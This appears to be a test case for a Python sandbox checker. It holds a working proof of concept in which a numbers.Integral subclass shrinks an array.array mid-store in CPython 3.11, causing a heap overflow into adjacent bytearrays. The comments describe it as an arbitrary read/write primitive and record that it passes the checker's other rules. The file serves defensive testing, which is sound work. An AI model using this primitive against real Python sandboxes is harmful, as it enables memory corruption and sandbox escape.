# expect: reject memory
# verified: reaches its goal under plain python3 (3.11) in a temp dir, and under the image's python3.11 (3.11.2) with the same output
# Mechanism: array.array's stores (a[i] = v, insert, append, extend) fix the place they write,
#   then convert the value with the number protocol (__index__, __float__); CPython 3.11 does
#   not look at the array again, so a conversion that shrinks the array (its item buffer
#   moves to a small block) makes the store write past the new buffer, into the blocks
#   next to it: here the buffers of bytearrays the conversion allocated.
# This member: a numbers.Integral subclass: the inherited __index__ calls the program's __int__, which shrinks the array.
# Goal reached: a byte written into another object's memory (a heap overflow of chosen offset
#   and value, the primitive the gh-120384 attacks build arbitrary read/write on)
# Checker before the memory rule: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | array length now: 1
#   | bytearrays the array wrote into: 1 [b'\x00\x00\x00\x00A\x00\x00']
# line: 24
import array
import numbers

found = []


class Count(numbers.Integral):
    # numbers.Integral.__index__ is `return int(self)`: __int__ is this class's
    def __int__(self):
        del a[1:]
        for _ in range(64):
            found.append(bytearray(7))
        return 65

    __abs__ = __add__ = __and__ = __ceil__ = __eq__ = __floor__ = __floordiv__ = None
    __invert__ = __le__ = __lshift__ = __lt__ = __mod__ = __mul__ = __neg__ = None
    __or__ = __pos__ = __pow__ = __radd__ = __rand__ = __rfloordiv__ = None
    __rlshift__ = __rmod__ = __rmul__ = __ror__ = __round__ = __rpow__ = None
    __rrshift__ = __rshift__ = __rtruediv__ = __rxor__ = __truediv__ = None
    __trunc__ = __xor__ = None


a = array.array("b", bytes(200))
a[100] = Count()

hits = [bytes(b) for b in found if any(b)]
print("array length now:", len(a))
print("bytearrays the array wrote into:", len(hits), hits[:2])
